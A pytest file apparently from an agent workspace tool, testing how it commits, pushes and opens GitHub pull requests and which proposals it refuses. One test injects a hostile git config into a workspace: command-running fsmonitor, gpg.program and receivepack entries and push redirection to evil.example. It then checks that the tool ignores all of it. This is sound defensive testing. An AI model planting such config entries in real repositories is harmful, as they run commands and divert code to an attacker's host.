"""Pull requests: what is pushed and opened, what is refused, and that no agent's configuration has a say in it."""

from __future__ import annotations

from dataclasses import replace

import pytest

from shared.domain.errors import InvalidField, Unsupported
from shared.domain.errors_git import GitFailed, NothingToPropose, PullRequestRefused
from shared.domain.ids import mint_session
from shared.domain.pulls import Proposal
from shared.workspaces.git import Git
from shared.workspaces.pulls import propose
from shared.workspaces.volume import open_volume
from tests.fakes import github_server
from tests.fixtures.git_server import TOKEN, git

KIND = Git()
PROPOSAL = Proposal("corral/plum", None, "Plums", "Ripe ones.", "Pick plums", "Ann", "ann@example.com")


@pytest.fixture(scope="module")
def git_hub():
    with github_server.running(TOKEN) as running:
        yield running


@pytest.fixture(scope="module")
def url(git_server):
    git_server.make("private/orchard", {"plum.txt": "green\n"})
    return git_server.url("private/orchard")


@pytest.fixture
def volume(tmp_path, git_server, git_hub, url):
    place = url.removeprefix("https://").partition("/")[0]
    rules = git_server.rules(tokens={place: TOKEN}, github_host=place, github_api=git_hub.api)
    return replace(open_volume(tmp_path / "volume"), git=rules)


@pytest.fixture
def spec(url):
    return KIND.check({"url": url}, ())


def served(git_server, *args):
    return git(*args, cwd=git_server.folder / "private/orchard.git")


def test_changes_are_committed_pushed_and_proposed_once_per_branch(git_server, git_hub, volume, spec):
    place = KIND.open(mint_session(), spec, volume)
    (place.root / "plum.txt").write_text("ripe\n")

    first = propose(place, spec, PROPOSAL, volume)
    (place.root / "more.txt").write_text("more\n")
    second = propose(place, spec, PROPOSAL, volume)
    again = propose(place, spec, PROPOSAL, volume)

    assert (first.is_new, second.is_new, again.is_new) == (True, False, False)
    assert first.number == second.number == again.number
    assert served(git_server, "rev-parse", "corral/plum") == second.commit == again.commit != first.commit
    shown = served(git_server, "log", "-2", "--format=%an <%ae> %s", "corral/plum").splitlines()
    assert shown == ["Ann <ann@example.com> Pick plums"] * 2
    told = git_hub.pulls[first.number - 1]
    assert (told["title"], told["body"], told["base"], told["draft"]) == ("Plums", "Ripe ones.", "main", False)
    assert not list((volume.root / "mirrors").glob(".fresh-*"))


def test_what_an_agent_configured_is_not_heard_on_the_way_out(git_server, volume, spec, tmp_path):
    canary, session = tmp_path / "canary", mint_session()
    place = KIND.open(session, spec, volume)
    git("commit", "-q", "--allow-empty", "-m", "mine", cwd=place.root)
    # As if the server had it: what is packed first is nothing.
    git("update-ref", "refs/remotes/origin/lie", "HEAD", cwd=place.root)
    config = place.root / ".git/config"
    hostile = (
        f"[core]\n\tfsmonitor = touch {canary}\n\thooksPath = evil\n"
        f"[commit]\n\tgpgSign = true\n[gpg]\n\tprogram = {canary}\n"
        f'[remote "origin"]\n\tpushurl = https://evil.example/x\n\treceivepack = touch {canary}\n'
        f'[url "https://evil.example/"]\n\tinsteadOf = {spec["url"]}\n'
    )
    config.write_text(config.read_text() + hostile)

    made = propose(place, spec, replace(PROPOSAL, branch="corral/hostile"), volume)

    assert served(git_server, "rev-parse", "corral/hostile") == made.commit
    assert not canary.exists()


def test_what_cannot_be_proposed_is_said_and_nothing_is_pushed(git_server, git_hub, volume, spec):
    before = served(git_server, "for-each-ref")
    place = KIND.open(mint_session(), spec, volume)

    with pytest.raises(NothingToPropose):
        propose(place, spec, PROPOSAL, volume)
    (place.root / "made").write_text("x\n")
    with pytest.raises(InvalidField, match="base"):
        propose(place, spec, replace(PROPOSAL, branch="main"), volume)
    with pytest.raises(InvalidField, match="no branch"):
        propose(place, spec, replace(PROPOSAL, base="absent"), volume)
    with pytest.raises(Unsupported, match="url"):
        propose(place, {"kind": "folder"}, PROPOSAL, volume)
    with pytest.raises(Unsupported, match="only"):
        propose(place, {"kind": "git", "url": "https://gitlab.example/a/b"}, PROPOSAL, volume)
    with pytest.raises(GitFailed, match="CORRAL_GIT_TOKENS"):
        propose(place, spec, PROPOSAL, replace(volume, git=replace(volume.git, tokens={})))

    assert served(git_server, "for-each-ref") == before


def test_a_branch_with_commits_of_others_and_a_github_that_refuses_are_told(git_server, git_hub, volume, spec):
    place = KIND.open(mint_session(), spec, volume)
    (place.root / "made").write_text("x\n")
    git_server.commit("private/orchard", {"other": "x"})
    git_server.push("private/orchard", "main:refs/heads/taken")

    with pytest.raises(GitFailed, match="other commits"):
        propose(place, spec, replace(PROPOSAL, branch="taken"), volume)
    git_hub.token = "another"
    try:
        with pytest.raises(PullRequestRefused, match="Bad credentials"):
            propose(place, spec, replace(PROPOSAL, branch="corral/late"), volume)
    finally:
        git_hub.token = TOKEN
